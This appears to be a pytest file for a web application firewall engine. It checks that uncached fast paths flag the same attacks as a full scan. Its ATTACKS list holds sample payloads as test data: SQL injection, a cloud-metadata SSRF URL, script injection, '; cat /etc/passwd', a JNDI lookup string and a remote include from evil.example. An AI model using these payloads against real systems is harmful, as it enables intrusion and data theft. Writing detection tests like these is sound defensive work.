"""The first-sight fast paths (no memo) must answer exactly as the full scan does."""

from __future__ import annotations

import base64

import pytest

from fnguard.guard.waf import Engine


@pytest.fixture(scope="module")
def cold() -> Engine:
    return Engine({"cache_entries": 0})


BENIGN = ["https://aws.amazon.com", "application/json", "2026-11-28T12:00:00Z", "jane0@example.com",
          "gift wrap, please", "/my/path", "Jane Doe", "en-US,en;q=0.9"]
ATTACKS = ["https://example.com/?x=1 union select password from users", "http://169.254.169.254/latest/meta-data/",
           "<script>alert(1)</script>", "; cat /etc/passwd", "{{7*7}}", "${jndi:ldap://x.example/a}",
           "include_path=http://evil.example/shell.txt?", "php://filter/resource=index.php", "whoami"]


@pytest.mark.parametrize("value", BENIGN + ATTACKS)
def test_fast_paths_agree_with_the_full_scan(cold: Engine, value: str) -> None:
    scanned = {rule.attack_class for rule, _ in cold._scan_uncached(value, False)}
    top = {d.attack_class for d in cold.inspect(value).detections}
    nested = {d.attack_class for d in cold.inspect({"h": value, "l": [value]}).detections}
    assert top == scanned == nested
    assert bool(scanned) == (value in ATTACKS)


def test_quiet_is_only_for_trigger_free_ascii(cold: Engine) -> None:
    assert cold._quiet("2026-11-28T12:00:00Z") and cold._quiet("Jane Doe")
    assert not cold._quiet("https://aws.amazon.com")  # "://" wakes ssrf and rfi
    assert not cold._quiet("ｗｈｏａｍｉ")  # NFKC could make a trigger appear
    assert not cold._quiet("a%3Cb")  # decode markers are triggers


def test_base64_that_looks_plain_is_still_decoded(cold: Engine) -> None:
    value = base64.b64encode(b"<script>alert(1)</script>  ").decode()  # letters and digits only
    assert not cold._quiet(value)
    assert {d.attack_class for d in cold.inspect(value).detections} == {"xss"}


def test_short_string_answer_keeps_the_budget_accounting(cold: Engine) -> None:
    result = cold.inspect("2026-11-28")
    assert result.detections == () and result.inspected_bytes == 10 and not result.budget_exceeded
    tight = Engine({"cache_entries": 0, "max_value_bytes": 4})
    assert tight.inspect("2026-11-28").budget_exceeded  # truncated: the walk still reports it


@pytest.mark.parametrize("value", ["https://AWS.amazon.com/Path", "a;b", "Hello from Lambda!", "id=1"])
def test_undecodable_forms_match_the_computed_ones(value: str) -> None:
    from fnguard.guard.waf.forms import Forms

    seeded, computed = Forms.undecodable(value, value.lower()), Forms(value)
    for name in ("raw", "text", "sql", "path"):
        assert seeded.get(name) == computed.get(name)
    assert seeded.decoded == computed.decoded
